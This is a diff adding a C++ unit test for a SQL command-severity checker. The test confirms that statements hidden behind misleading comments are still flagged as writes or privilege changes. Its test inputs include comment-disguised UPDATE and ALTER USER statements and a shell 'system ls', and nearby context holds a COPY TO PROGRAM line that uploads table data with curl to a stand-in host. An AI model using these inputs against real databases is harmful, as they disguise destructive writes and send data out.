@@ -561,6 +561,26 @@ TEST(JudgeCommandTest, SeesThatSqlOverwritesRows) {
   }
 }
 
+TEST(JudgeCommandTest, LetsNoCommentSayHowAStatementBegins) {
+  for (const char* sql :
+       {"/* show */ UPDATE t SET x = 0", "-- explain\nUPDATE t SET x = 0", "/* ; show */ UPDATE t SET x = 0",
+        "/* show /* */ */ UPDATE t SET x = 0", "/* grant */ UPDATE ONLY (a.b) AS x SET x = 0",
+        "/*!50000 UPDATE t SET x = 0 */ SHOW x"}) {
+    EXPECT_EQ(SeverityOfSql(sql), Finding::CRITICAL) << sql;
+  }
+  for (const char* sql : {"/* show */ REPLACE INTO t VALUES (1)", "/* show */ ALTER SYSTEM SET x = 1",
+                          "/*!ALTER USER x */ SHOW y", "/* ' */ system ls"}) {
+    EXPECT_EQ(SeverityOfSql(sql), Finding::HIGH) << sql;
+  }
+  for (const char* sql : {"/* select */ FROBNICATE x", "/* it's show */ FROBNICATE x"}) {
+    EXPECT_EQ(SeverityOfSql(sql), Finding::WARNING) << sql;
+  }
+  for (const char* sql :
+       {"/* how many */ SELECT count(*) FROM t", "\n-- how many\nSELECT 1", "SELECT 1; -- two\nSHOW x"}) {
+    EXPECT_EQ(SeverityOfSql(sql), Finding::SEVERITY_UNSPECIFIED) << sql;
+  }
+}
+
 TEST(JudgeCommandTest, SeesThatCopyRunsPrograms) {
   for (const char* sql : {"COPY t TO PROGRAM 'curl -T - https://x'", "copy t from program 'cat x'",
                           "COPY (SELECT 1) TO /* x */ PROGRAM $$id$$"}) {
